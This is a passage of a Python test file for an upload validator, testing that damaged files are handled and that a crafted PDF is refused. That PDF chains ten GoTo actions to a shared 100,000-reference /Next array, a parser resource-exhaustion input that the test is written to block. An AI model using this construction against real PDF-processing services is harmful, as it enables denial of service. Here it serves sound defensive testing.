            stored = check_document(upload("scan", damaged), max_bytes=5 * MB)
        except ValidationError as error:
            assert error.code in uploads.error_messages
        else:
            if stored.content_type == "application/pdf":
                assert_inert(stored.content)
            else:
                assert Image.open(io.BytesIO(stored.content)).size == (stored.width, stored.height)


def test_a_goto_chained_to_a_huge_shared_array_of_actions_is_refused_at_once(caplog):
    """Ten GoTo actions sharing one /Next array of 100,000 references were walked once per action, until the
    parser's 5 s of CPU ran out: refused now as soon as the chain is seen."""
    caplog.set_level("INFO", logger="applications.uploads")
    objects = {
        **ONE_PAGE,
        2: b"[" + b"5 0 R " * 100_000 + b"]",
        5: b"<< /S /GoTo /D [4 0 R /Fit] >>",
        **{10 + n: b"<< /S /GoTo /D [4 0 R /Fit] /Next 2 0 R >>" for n in range(10)},
    }
    assert refused(check_document, "sijil.pdf", raw_pdf(objects)) == "pdf_too_complex"
    assert "an action followed by 100000 others" in caplog.text
